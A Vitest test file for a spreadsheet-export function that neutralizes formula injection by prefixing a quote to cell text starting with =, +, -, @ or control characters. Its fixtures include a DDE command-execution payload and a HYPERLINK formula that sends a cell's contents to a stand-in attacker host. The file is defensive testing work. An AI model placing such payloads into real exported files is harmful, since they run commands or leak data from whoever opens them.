import { describe, expect, it } from 'vitest'
import { neutralizeText } from '../../../../src/main/export/cell-neutralization'

describe('neutralizeText', () => {
  it.each([
    ['=', '=1+1'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(1+1)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=2+2'],
    ['line feed', '\n=3+3'],
    ['full-width equals', '＝1+1'],
  ])('prefixes a quote to text that starts with %s', (_name, text) => {
    expect(neutralizeText(text)).toBe(`'${text}`)
  })

  it('makes a HYPERLINK formula inert while keeping every character of it', () => {
    const hostile = '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Click for refund")'

    expect(neutralizeText(hostile)).toBe(`'${hostile}`)
  })

  it.each([
    'Ana Rivera',
    '<script>alert(1)</script>',
    ' =1+1',
    'a=b',
    "O'Brien",
    'محمد',
    '\u202Eevil\u202C',
    '',
  ])('leaves %j as it is', (text) => {
    expect(neutralizeText(text)).toBe(text)
  })
})
